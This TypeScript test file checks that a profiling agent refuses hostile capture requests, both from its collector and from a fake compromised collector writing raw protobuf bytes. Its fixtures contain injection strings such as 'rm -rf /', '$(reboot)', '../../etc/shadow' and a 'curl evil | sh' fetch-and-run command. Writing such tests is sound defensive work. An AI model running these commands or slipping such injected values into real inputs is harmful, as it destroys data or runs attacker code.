// The agent runs only its fixed capture programs with validated numbers:
// hostile capture requests, sent down real collector streams (the real
// collector, and a hostile one writing raw bytes), reach the agent's uploader
// and are refused with the reason; only a valid request gets through.
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { after, before, test } from 'node:test';
import * as grpc from '@grpc/grpc-js';
import protobuf from 'protobufjs';
import { pino } from 'pino';
import { validateCaptureRequest, type ValidCaptureRequest } from '../agent/capture-request.js';
import { CAPTURE_LIMITS } from '../proto/capture-limits.js';
import { Uploader } from '../agent/uploader.js';
import { MemoryWindowQueue } from './helpers/memory-window-queue.js';
import { startCollector, type RunningCollector } from '../collector/collector.js';
import { CaptureProgram, codecs, type CaptureRequest } from '../proto/wire.js';
import { capturedLogger, type CapturedLog } from './helpers/log-lines.js';
import { tempDir, waitFor } from './helpers/processes.js';

const silent = pino({ level: process.env.TEST_LOG_LEVEL ?? 'silent' });
const dir = tempDir('capture-request');
let collector: RunningCollector;

before(async () => {
  collector = await startCollector({ dataDir: dir, grpcAddress: '127.0.0.1:0', httpAddress: '127.0.0.1:0', log: silent });
});

after(async () => {
  await collector.close();
  rmSync(dir, { recursive: true, force: true });
});

const valid: CaptureRequest = { requestId: 'cap-2026_01', program: CaptureProgram.ONCPU, durationSeconds: 10, frequencyHz: 99, pid: 4242 };

/** Each hostile request with the reason it must be refused for. */
const HOSTILE: [string, Partial<CaptureRequest>, RegExp][] = [
  ['shell command in the id', { requestId: "x; rm -rf / #" }, /^request_id must be 1-64 characters/],
  ['command substitution in the id', { requestId: '$(reboot)' }, /^request_id must be/],
  ['backticks in the id', { requestId: '`id`' }, /^request_id must be/],
  ['pipe in the id', { requestId: 'a|sh' }, /^request_id must be/],
  ['path traversal in the id', { requestId: '../../etc/passwd' }, /^request_id must be/],
  ['absolute path as the id', { requestId: '/usr/bin/bpftrace' }, /^request_id must be/],
  ['bpftrace program text in the id', { requestId: 'x\nBEGIN { system("id") }' }, /^request_id must be/],
  ['an option as the id', { requestId: '-e' }, /^request_id must be/],
  ['NUL in the id', { requestId: 'cap\u0000x' }, /^request_id must be/],
  ['look-alike letters in the id', { requestId: 'ｃａｐ' }, /^request_id must be/],
  ['an empty id', { requestId: '' }, /^request_id must be/],
  ['an overlong id', { requestId: 'a'.repeat(65) }, /^request_id must be/],
  ['no program', { program: CaptureProgram.UNSPECIFIED }, /^program 0 is not a capture program this agent has/],
  ['an unknown program number', { program: 7 }, /^program 7 is not a capture program this agent has/],
  ['a negative program number', { program: -1 }, /^program -1 is not a capture program/],
  ['zero duration', { durationSeconds: 0 }, /^durationSeconds 0 is outside 1\.\.300$/],
  ['a duration past the limit', { durationSeconds: 301 }, /^durationSeconds 301 is outside 1\.\.300$/],
  ['the largest uint32 as duration', { durationSeconds: 4_294_967_295 }, /^durationSeconds 4294967295 is outside/],
  ['zero frequency', { frequencyHz: 0 }, /^frequencyHz 0 is outside 1\.\.1000$/],
  ['a frequency past the limit', { frequencyHz: 1001 }, /^frequencyHz 1001 is outside 1\.\.1000$/],
  ['a pid past PID_MAX_LIMIT', { pid: 4_194_305 }, /^pid 4194305 is outside 0\.\.4194304$/],
];

test('the validator accepts the fixed program with numbers in range, and nothing else', () => {
  assert.deepEqual(validateCaptureRequest(valid), { accepted: true, request: { ...valid, program: 'oncpu' } });
  const wholeHost = { ...valid, pid: 0, durationSeconds: CAPTURE_LIMITS.durationSeconds.max, frequencyHz: CAPTURE_LIMITS.frequencyHz.min };
  assert.equal(validateCaptureRequest(wholeHost).accepted, true);
  for (const [what, change, reason] of HOSTILE) {
    const decision = validateCaptureRequest({ ...valid, ...change });
    assert.equal(decision.accepted, false, what);
    assert.match(decision.accepted ? '' : decision.reason, reason, what);
  }
});

interface AgentSide {
  uploader: Uploader;
  captured: CapturedLog;
  /** Resolves with the first request that passed validation. */
  accepted: Promise<ValidCaptureRequest>;
}

function startAgentSide(collectorAddress: string, host: string): AgentSide {
  const captured = capturedLogger();
  let uploader!: Uploader;
  const accepted = new Promise<ValidCaptureRequest>((resolve) => {
    uploader = new Uploader({ collectorAddress, host, agentId: `agent-${host}`, version: 'test', queue: new MemoryWindowQueue(10), log: captured.log, onCaptureRequest: resolve });
  });
  uploader.start();
  return { uploader, captured, accepted };
}

const refusals = (agent: AgentSide): { requestId: unknown; reason: unknown }[] =>
  agent.captured.lines.filter((l) => l.msg === 'capture request refused').map((l) => ({ requestId: l.requestId, reason: l.reason }));

test('hostile requests sent by the collector down an agent stream are refused with the reason; a valid one gets through', { timeout: 30_000 }, async () => {
  const agent = startAgentSide(collector.grpcAddress, 'web-cap');
  try {
    const stream = await waitFor('the agent to say hello', () => collector.connectedAgents().get('web-cap'), 10_000);
    for (const [, change] of HOSTILE) assert.equal(stream.send({ capture: { ...valid, ...change } }), true);
    assert.equal(stream.send({ capture: valid }), true);

    // The stream keeps order: once the valid request arrives, every hostile one has been handled.
    assert.deepEqual(await agent.accepted, { ...valid, program: 'oncpu' });
    const refused = refusals(agent);
    assert.equal(refused.length, HOSTILE.length);
    for (const [i, [what, change, reason]] of HOSTILE.entries()) {
      assert.match(String(refused[i]!.reason), reason, what);
      assert.equal(refused[i]!.requestId, (change.requestId ?? valid.requestId).slice(0, 80), what);
    }
  } finally {
    await agent.uploader.stop();
  }
});

/** A CollectorMessage holding a CaptureRequest whose fields `write` puts down as raw protobuf. */
function rawCapture(write: (w: protobuf.Writer) => void): Buffer {
  const inner = protobuf.Writer.create();
  write(inner);
  // CollectorMessage.capture is field 2, length-delimited.
  return Buffer.from(protobuf.Writer.create().uint32((2 << 3) | 2).bytes(inner.finish()).finish());
}

const VARINT = 0;
const LEN = 2;
const tag = (field: number, wireType: number): number => (field << 3) | wireType;

/** The valid request's fields, except those in `skip`. */
function validFields(w: protobuf.Writer, skip: number[] = []): void {
  if (!skip.includes(1)) w.uint32(tag(1, LEN)).string(valid.requestId);
  if (!skip.includes(2)) w.uint32(tag(2, VARINT)).int32(valid.program);
  if (!skip.includes(3)) w.uint32(tag(3, VARINT)).uint32(valid.durationSeconds);
  if (!skip.includes(4)) w.uint32(tag(4, VARINT)).uint32(valid.frequencyHz);
  if (!skip.includes(5)) w.uint32(tag(5, VARINT)).uint32(valid.pid);
}

/** Text where the agent expects numbers, and fields it does not know, written by a hostile collector. */
const RAW_HOSTILE: [string, Buffer, RegExp][] = [
  [
    'program text in the program field',
    rawCapture((w) => {
      validFields(w, [2]);
      w.uint32(tag(2, LEN)).string('/bin/sh -c "curl evil | sh"');
    }),
    /field 2\)$/,
  ],
  [
    'a path in the duration field',
    rawCapture((w) => {
      validFields(w, [3]);
      w.uint32(tag(3, LEN)).string('../../../etc/shadow');
    }),
    /field 3\)$/,
  ],
  [
    'shell text in the pid field, all else valid',
    rawCapture((w) => {
      validFields(w, [5]);
      w.uint32(tag(5, LEN)).string('$(reboot)');
    }),
    /field 5\)$/,
  ],
  [
    'a bpftrace program in a field the agent does not know',
    rawCapture((w) => {
      validFields(w);
      w.uint32(tag(15, LEN)).string('BEGIN { system("id") }');
    }),
    /field 15\)$/,
  ],
  [
    'an unknown field beside a text pid',
    rawCapture((w) => {
      validFields(w, [5]);
      w.uint32(tag(5, LEN)).string('1;id');
      w.uint32(tag(99, VARINT)).uint32(1);
    }),
    /field 5, 99\)$/,
  ],
];

test('a hostile collector writing text into numeric fields or unknown fields gets every such request refused', { timeout: 30_000 }, async () => {
  // Serves AgentGateway.Connect with raw bytes: whatever a compromised collector could put on the wire.
  const server = new grpc.Server();
  const raw = (b: Buffer): Buffer => b;
  const streams: grpc.ServerDuplexStream<Buffer, Buffer>[] = [];
  server.addService(
    { connect: { path: '/hotloop.v1.AgentGateway/Connect', requestStream: true, responseStream: true, requestSerialize: raw, requestDeserialize: raw, responseSerialize: raw, responseDeserialize: raw } },
    {
      connect: (call: grpc.ServerDuplexStream<Buffer, Buffer>) => {
        streams.push(call);
        for (const [, bytes] of RAW_HOSTILE) call.write(bytes);
        call.write(codecs.collectorMessage.encode({ capture: valid }));
      },
    },
  );
  const port = await new Promise<number>((resolve, reject) =>
    server.bindAsync('127.0.0.1:0', grpc.ServerCredentials.createInsecure(), (err, bound) => (err ? reject(err) : resolve(bound))),
  );
  const agent = startAgentSide(`127.0.0.1:${port}`, 'web-raw');
  try {
    assert.deepEqual(await agent.accepted, { ...valid, program: 'oncpu' });
    const refused = refusals(agent);
    assert.equal(refused.length, RAW_HOSTILE.length);
    for (const [i, [what, , reason]] of RAW_HOSTILE.entries()) {
      assert.match(String(refused[i]!.reason), /^request carries fields this agent does not know or with the wrong type/, what);
      assert.match(String(refused[i]!.reason), reason, what);
    }
  } finally {
    await agent.uploader.stop();
    for (const s of streams) s.end();
    server.forceShutdown();
  }
});
